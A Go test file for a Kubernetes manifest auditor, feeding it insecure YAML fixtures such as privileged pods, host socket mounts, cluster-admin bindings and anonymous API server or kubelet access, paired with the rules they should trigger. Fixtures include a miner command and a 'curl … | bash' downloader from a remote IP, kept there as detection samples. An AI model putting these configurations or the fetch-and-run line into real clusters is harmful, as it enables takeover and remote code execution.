package kubernetes

import (
	"context"
	"testing"

	"github.com/minewarden/minewarden"
	"github.com/minewarden/minewarden/internal/audittest"
)

const quiet = "  automountServiceAccountToken: false\n"

func pod(spec string) string {
	return "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n" + quiet + spec
}

func container(lines string) string {
	return pod("  containers:\n    - name: c\n      image: app:1\n" + lines)
}

func static(image, argv string) string {
	return pod("  containers:\n    - name: c\n      image: " + image + "\n      command: " + argv + "\n")
}

func kubelet(lines string) string {
	return "apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\n" + lines
}

func binding(kind, role, subject string) string {
	return "apiVersion: rbac.authorization.k8s.io/v1\nkind: " + kind + "\nmetadata: {name: b}\nroleRef: {name: " + role + "}\nsubjects:\n  - " + subject + "\n"
}

func files() []audittest.File {
	f := func(name, text string, fails ...string) audittest.File {
		return audittest.File{Name: name, Path: "deploy/x.yaml", Text: text, Fails: fails}
	}
	mount := func(path, ro string) string {
		return pod("  containers:\n    - name: c\n      image: app:1\n      volumeMounts: [{name: v, mountPath: /x" + ro + "}]\n  volumes:\n    - name: v\n      hostPath: {path: " + path + "}\n")
	}
	const apiserver = "registry.k8s.io/kube-apiserver:v1.30.0"
	sound := `["kube-apiserver", "--anonymous-auth=false", "--authorization-mode=Node,RBAC"`
	return []audittest.File{
		f("a sound pod", container("      securityContext: {runAsNonRoot: true, allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}\n")),
		f("an account of its own", "apiVersion: v1\nkind: Pod\nspec:\n  serviceAccountName: web\n  containers: [{name: c, image: app}]\n"),
		{Name: "privileged, by line", Path: "p.yml", Text: container("      securityContext:\n        privileged: true\n"), Fails: []string{rulePrivileged}, Line: 10},
		f("privileged in a template of a CronJob", "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: j}\nspec:\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          automountServiceAccountToken: false\n          containers:\n            - {name: c, image: app, securityContext: {privileged: true}}\n", rulePrivileged),
		f("privileged init container in a List", "apiVersion: v1\nkind: List\nitems:\n  - apiVersion: apps/v1\n    kind: DaemonSet\n    metadata: {name: d}\n    spec:\n      template:\n        spec:\n          automountServiceAccountToken: false\n          initContainers:\n            - {name: c, image: app, securityContext: {privileged: true}}\n", rulePrivileged),
		f("second document", container("")+"---\n"+container("      securityContext: {privileged: true}\n"), rulePrivileged),
		f("docker.sock", mount("/var/run/docker.sock", ""), ruleRuntimeSocket),
		f("docker.sock read-only is no better", mount("/run/containerd/containerd.sock", ", readOnly: true"), ruleRuntimeSocket),
		f("root of the host", mount("/", ", readOnly: true"), ruleHostRoot),
		f("etc for writing, spelt otherwise", mount("/usr/../etc/", ""), ruleHostRoot),
		f("etc read-only may be", mount("/etc", ", readOnly: true"), ruleHostPath),
		f("a directory of its own for writing", mount("/srv/data", ""), ruleHostPath),
		f("a directory of its own read-only", mount("/srv/data", ", readOnly: true")),
		f("hostPID", pod("  hostPID: true\n  containers: [{name: c, image: app}]\n"), ruleHostPID),
		f("hostNetwork", pod("  hostNetwork: true\n  containers: [{name: c, image: app}]\n"), ruleHostNetwork),
		f("hostIPC", pod("  hostIPC: true\n  containers: [{name: c, image: app}]\n"), ruleHostIPC),
		f("hostPID: false", pod("  hostPID: false\n  containers: [{name: c, image: app}]\n")),
		f("SYS_ADMIN among others", container("      securityContext: {capabilities: {add: [CHOWN, CAP_SYS_ADMIN]}}\n"), ruleCapabilities),
		f("harmless capabilities", container("      securityContext: {capabilities: {add: [NET_BIND_SERVICE]}}\n")),
		f("escalation", container("      securityContext: {allowPrivilegeEscalation: true}\n"), ruleEscalation),
		f("root by number", pod("  securityContext: {runAsUser: 0}\n  containers: [{name: c, image: app}]\n"), ruleRunAsRoot),
		f("the default account's token", "apiVersion: v1\nkind: Pod\nspec:\n  containers: [{name: c, image: app}]\n", ruleToken),

		f("rights of the default account", binding("RoleBinding", "edit", "{kind: ServiceAccount, name: default, namespace: web}"), ruleDefaultRights),
		f("rights of another account", binding("RoleBinding", "edit", "{kind: ServiceAccount, name: web, namespace: web}")),
		f("cluster-admin for a person", binding("ClusterRoleBinding", "cluster-admin", "{kind: User, name: jane}"), ruleClusterAdmin),
		f("cluster-admin's own group", binding("ClusterRoleBinding", "cluster-admin", "{kind: Group, name: \"system:masters\"}")),
		f("anonymous", binding("ClusterRoleBinding", "view", "{kind: User, name: \"system:anonymous\"}"), ruleAnonymousRight),
		f("everybody who has a name", binding("ClusterRoleBinding", "edit", "{kind: Group, name: \"system:authenticated\"}"), ruleAnonymousRight),
		f("what Kubernetes binds itself", binding("ClusterRoleBinding", "\"system:public-info-viewer\"", "{kind: Group, name: \"system:unauthenticated\"}")),
		f("wildcards", "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: all}\nrules:\n  - {apiGroups: [\"*\"], resources: [\"*\"], verbs: [\"*\"]}\n", ruleWildcard),
		f("a role with names", "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {name: some}\nrules:\n  - {apiGroups: [\"\"], resources: [pods], verbs: [\"*\"]}\n"),

		f("dashboard without login", static("kubernetesui/dashboard:v2.7.0", `["/dashboard", "--enable-skip-login"]`), ruleDashboard),
		f("dashboard with login", static("kubernetesui/dashboard:v2.7.0", `["/dashboard", "--auto-generate-certificates"]`)),
		f("dashboard outside", "apiVersion: v1\nkind: Service\nmetadata: {name: kubernetes-dashboard}\nspec: {type: NodePort}\n", ruleDashboardOpen),
		f("another service outside", "apiVersion: v1\nkind: Service\nmetadata: {name: shop}\nspec: {type: LoadBalancer}\n"),

		f("API server", static(apiserver, sound+`]`)),
		f("API server for everyone", static(apiserver, `["kube-apiserver", "--anonymous-auth=true", "--authorization-mode=AlwaysAllow", "--insecure-port=8080"]`), ruleAPIAuthz, ruleAPIAnon, ruleAPIInsecure),
		f("API server's default", static(apiserver, `["kube-apiserver", "--authorization-mode=Node,RBAC"]`), ruleAPIAnon),
		f("API server's plain address", static(apiserver, sound+`, "--insecure-bind-address=0.0.0.0"]`), ruleAPIInsecure),
		f("insecure port 0", static(apiserver, sound+`, "--insecure-port=0"]`)),
		f("etcd without certificates", static("registry.k8s.io/etcd:3.5.9", `["etcd", "--listen-client-urls=https://0.0.0.0:2379"]`), ruleEtcdOpen),
		f("etcd without TLS", static("registry.k8s.io/etcd:3.5.9", `["etcd", "--client-cert-auth=true", "--listen-client-urls=http://10.0.0.1:2379"]`), ruleEtcdOpen),
		f("etcd on loopback", static("registry.k8s.io/etcd:3.5.9", `["etcd", "--listen-client-urls=http://127.0.0.1:2379"]`)),
		f("etcd with certificates", static("registry.k8s.io/etcd:3.5.9", `["etcd", "--client-cert-auth=true", "--listen-client-urls=https://127.0.0.1:2379,https://10.0.0.1:2379"]`)),
		f("kubelet file", kubelet("authentication: {anonymous: {enabled: false}}\nauthorization: {mode: Webhook}\nreadOnlyPort: 0\n")),
		f("kubelet file, defaults", kubelet("clusterDomain: x\n")),
		f("open kubelet file", kubelet("authentication:\n  anonymous:\n    enabled: true\nauthorization: {mode: AlwaysAllow}\nreadOnlyPort: 10255\n"), ruleKubeletAuthz, ruleKubeletAnon, ruleKubeletRO),
		f("open kubelet flags", static("hyper:1", `["kubelet", "--anonymous-auth=true", "--authorization-mode=AlwaysAllow", "--read-only-port=10255"]`), ruleKubeletAuthz, ruleKubeletAnon, ruleKubeletRO),

		f("a miner's image", pod("  containers: [{name: c, image: \"metal3d/xmrig:latest\"}]\n"), ruleMiner),
		f("a miner's command", container("      command: [sh, -c, \"./x -o stratum+tcp://pool.example.org:3333 -u W\"]\n"), ruleMiner),
		f("a downloader", container("      args: [\"-c\", \"curl -fsSL http://198.51.100.7/a.sh | bash\"]\n      command: [bash]\n"), ruleDownloader),
		f("a probe with curl", container("      command: [curl, -f, \"http://localhost/health\"]\n")),
		f("consul -dev on all addresses", pod("  containers: [{name: c, image: \"hashicorp/consul:1.21\", args: [agent, -dev, -client, 0.0.0.0]}]\n"), ruleFlags),
	}
}

func TestManifests(t *testing.T) { audittest.Files(t, New, files()) }

// TestBroken holds that a broken file is an error with its place, and no pass.
func TestBroken(t *testing.T) {
	a, err := New(minewarden.Env{})
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{"apiVersion: v1\nkind: Pod\nspec: {a: [}\n", "apiVersion: v1\nkind: Pod\n\tspec: 1\n"} {
		v, err := a.Audit(context.Background(), minewarden.Target{Kind: minewarden.TargetFile, Path: "x.yaml", Data: []byte(text)})
		if err == nil || v.Applies {
			t.Errorf("%q: %+v, %v", text, v, err)
		}
	}
}

func FuzzManifest(f *testing.F) {
	for _, x := range files() {
		f.Add([]byte(x.Text))
	}
	a, err := New(minewarden.Env{})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 1<<16 {
			return
		}
		if v, err := a.Audit(context.Background(), minewarden.Target{Kind: minewarden.TargetFile, Path: "x.yaml", Data: data}); err != nil && v.Applies {
			t.Error("an error, and a verdict")
		}
	})
}
